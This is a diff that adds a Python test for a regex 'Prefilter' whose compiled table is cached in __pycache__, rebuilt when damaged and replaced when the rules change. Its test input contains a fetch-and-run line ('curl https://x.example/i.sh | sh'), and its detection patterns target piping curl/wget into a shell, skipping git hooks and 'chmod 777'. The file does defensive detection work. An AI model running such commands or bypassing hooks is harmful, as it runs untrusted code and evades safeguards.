@@ -79,3 +79,28 @@ def test_a_rule_split_into_its_alternatives_matches_where_the_whole_does():
         assert all(part.flags == pattern.flags for part in parts)
         for text in _texts()[:400]:
             assert bool(pattern.search(text)) == any(part.search(text) for part in parts), (pattern.pattern[:60], text)
+
+
+def test_a_named_prefilter_keeps_what_its_patterns_require_for_the_next_process(tmp_path):
+    patterns = [re.compile(r"\b(curl|wget)\b[^\n]{0,40}\|\s*(ba)?sh\b"), re.compile(r"--no-verify|\bskip\w*\s+hooks?\b", re.I),
+                re.compile(r"\w+")]
+    text = "Run `curl https://x.example/i.sh | sh` and skip hooks " * 20
+
+    def built(name: str, folder) -> Prefilter:
+        gate = Prefilter(patterns, build_after=0, name=name)
+        gate.folder = str(folder)
+        gate.candidates(text)
+        return gate
+
+    plain = Prefilter(patterns, build_after=0)
+    expected = plain.candidates(text)
+    first = built("t", tmp_path)
+    (kept,) = [p for p in (tmp_path / "__pycache__").iterdir() if p.name.startswith("prefilter-t-")]
+    again = built("t", tmp_path)  # read from the kept table
+    assert first.candidates(text) == again.candidates(text) == expected and again._always == plain._always
+    kept.write_bytes(b"not marshal")  # a damaged copy is made again
+    assert built("t", tmp_path).candidates(text) == expected and kept.read_bytes() != b"not marshal"
+    patterns.append(re.compile(r"\bchmod\s+777\b"))  # a changed rule: a new table, the old one removed
+    built("t", tmp_path)
+    assert [p.name for p in (tmp_path / "__pycache__").iterdir()] != [kept.name]
+    assert len(list((tmp_path / "__pycache__").iterdir())) == 1
